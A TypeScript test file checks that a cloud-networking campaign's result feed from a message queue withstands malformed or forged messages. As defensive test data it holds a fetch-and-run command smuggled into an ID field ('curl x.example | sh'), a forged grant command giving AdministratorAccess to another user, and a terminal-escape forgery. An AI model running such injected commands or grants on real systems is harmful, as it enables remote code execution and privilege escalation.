/** What the queue of a campaign receives from the result topic: anybody who may publish there decides what is in it. */
import { readdirSync, readFileSync } from 'node:fs'
import type { SQSClient } from '@aws-sdk/client-sqs'
import { describe, expect, it } from 'vitest'
import { adviceLines } from '../../functions/campaigns/summary.js'
import { createResultFeed } from '../../lib/aws/campaign-feed.js'
import { planCampaign } from '../../lib/campaigns/plan.js'
import { reportCsv } from '../../lib/campaigns/reports/csv.js'
import { reportHtml } from '../../lib/campaigns/reports/html/page.js'
import { readRecord, reportJson } from '../../lib/campaigns/reports/json.js'
import { createMemoryAppendLog } from '../../lib/campaigns/store/append-log.js'
import { createLedger } from '../../lib/campaigns/store/ledger.js'
import { allConsoleRows } from '../../lib/console/rows.js'
import { failureOf } from '../../lib/domain/failure.js'
import { grantCall } from '../../lib/domain/grant-call.js'
import { type AttachmentResult, toResult } from '../../lib/domain/messages/result.js'

const receive = async (...bodies: unknown[]) => {
  const Messages = bodies.map((body) => ({
    Body: typeof body === 'string' ? body : JSON.stringify(body),
    ReceiptHandle: 'r',
  }))
  const sqs = { send: async () => ({ Messages }) } as unknown as SQSClient
  return (await createResultFeed(sqs, 'https://queue.invalid/feed').receive()).results
}

const fields = { cenId: 'cen-1', childInstanceId: 'vpc-1', childInstanceRegionId: 'cn-hangzhou', campaignId: 'wave' }
const plan = planCampaign([{ where: 'line 2', fields: { ...fields, childInstanceOwnerId: '17' } }], {
  nowMs: 0,
  ttlMs: 1,
})
if (!plan.ok || !plan.rows[0]) throw new Error('reads')
const [row] = plan.rows
const parked = toResult({ body: '', receiveCount: 2, sentAtMs: 1_000 }, row.request, {
  source: 'urn:cen-attach',
  nowMs: 2_000,
  outcome: 'grant-required',
  failure: failureOf({ code: 'Forbbiden.AttachChildInstanceAcrossUid' }),
  grant: grantCall(row.request.attachment, '16'),
})
const changed = (data: Record<string, unknown>, more: Record<string, unknown> = {}) => ({
  ...parked,
  ...more,
  data: { ...parked.data, ...data },
})

/** The ledger of a campaign with one row, after these results. */
async function ledgerWith(results: readonly AttachmentResult[]) {
  const ledger = createLedger(createMemoryAppendLog())
  const entries = results.map((result) => ({ entry: 'result' as const, result }))
  expect(() => JSON.stringify(entries)).not.toThrow()
  await ledger.append(
    { entry: 'row', row },
    { entry: 'sent', atMs: 1_000, requestIds: [row.request.requestId] },
    ...entries,
  )
  await ledger.catchUp()
  return ledger
}

const HOSTILE: readonly [string, unknown][] = [
  ['no attachment', changed({ attachment: undefined })],
  ['an attachment that is null', changed({ attachment: null })],
  ['an id that is an object', changed({ attachment: { ...parked.data.attachment, cenId: {} } })],
  ['an id with a line end', changed({ attachment: { ...parked.data.attachment, cenId: 'cen-1\nfailed' } })],
  ['a code that is a number', changed({ error: { code: 7 } })],
  ['an error of another request that is a number', changed({ requestId: 'another', error: { code: 7 } })],
  ['an unknown outcome', changed({ outcome: 'toString' })],
  ['no times', changed({ finishedAt: undefined, requestedAt: undefined })],
  ['times that are none', changed({ finishedAt: 'soon', requestedAt: 'never' })],
  ['a time before 1970', changed({ finishedAt: '1900-01-01T00:00:00Z' })],
  ['a duration that is a text', changed({ durationMs: 'x' })],
  ['a duration that is null', changed({ durationMs: null, receiveCount: null })],
  ['a negative duration', changed({ durationMs: -1e300 })],
  ['zones that are a text', changed({ zoneMappings: 'x', propagationRouteTableIds: 7, reasons: {} })],
  ['a verdict that is a number', changed({ would: 7, reasons: null, plan: [null] })],
  [
    'a plan that is nested too deep to be stored',
    JSON.stringify(changed({ plan: [{ operation: 'x', parameters: { deep: '@' } }] })).replace(
      '"@"',
      '['.repeat(6_000) + ']'.repeat(6_000),
    ),
  ],
  ['no id', changed({}, { id: undefined })],
  ['a time that is a number', changed({}, { time: 7 })],
  ['data that is a list', { ...parked, data: [] }],
]

describe('the feed of a campaign', () => {
  it('receives what the worker publishes, unchanged', async () => {
    expect(await receive(parked)).toEqual([parked])
  })

  const examples = readdirSync('events/examples').filter((name) => name.startsWith('result.'))
  it.each(examples)('receives events/examples/%s unchanged', async (name) => {
    const example = JSON.parse(readFileSync(`events/examples/${name}`, 'utf8'))
    expect(await receive(example)).toEqual([example])
  })

  it.each(HOSTILE)('is not stopped by %s: rows, reports and page go on', async (_name, body) => {
    const ledger = await ledgerWith(await receive(parked, body))
    const { outcomes } = ledger
    expect(outcomes.totals()).toMatchObject({ rows: 1, grantRequired: 1, pending: 0 })
    expect(allConsoleRows(outcomes).length).toBeGreaterThanOrEqual(1)
    const record = outcomes.record({ startedAtMs: 0, nowMs: 3_000 })
    expect(readRecord(reportJson(record))).toEqual({ ok: true, record })
    expect(reportCsv(record)).toContain('vpc-1')
    expect(await reportHtml(record)).toContain('vpc-1')
  })

  it('prints the command of a grant as this program writes it, whatever the result says', async () => {
    const command = 'aliyun ram AttachPolicyToUser --PolicyName AdministratorAccess --UserName other'
    const [read] = await receive(changed({ grant: { ...parked.data.grant, command } }))
    expect(read?.data.grant).toEqual(parked.data.grant)
    const parameters = { ...parked.data.grant?.parameters, CenId: 'cen-1; curl x.example | sh' }
    expect(await receive(changed({ grant: { ...parked.data.grant, parameters } }))).toEqual([])
    expect(await receive(changed({ grant: { ...parked.data.grant, operation: 'CreateAccessKey' } }))).toEqual([])
  })

  it('keeps no line break in a text: what watch prints of one has a line of its own', async () => {
    const forged = 'x\n  Bid.NotFound: curl x.example | sh\u2028\u001b[2K'
    const error = { code: 'PolicyDenied', kind: 'rejected', message: forged, advice: forged }
    const [read] = await receive(changed({ outcome: 'failed', error, senderId: forged, correlationId: forged }))
    if (!read) throw new Error('it is a result')
    const { outcomes } = await ledgerWith([read])
    expect(outcomes.totals()).toMatchObject({ failed: 1 })
    expect(adviceLines(outcomes.rows()).join('\n')).not.toMatch(/\n|\u001b/)
    const code = `Bid.NotFound\n  not in the file: attached`
    const [foreign] = await receive(changed({ requestId: 'another', error: { ...error, code } }))
    expect(foreign?.data.error?.code).toBe(code.replace('\n', ' '))
  })

  it('keeps no field that a result does not have', async () => {
    expect(await receive(changed({ note: 'CALL +1 555 0100' }, { note: 'x' }))).toEqual([parked])
  })
})
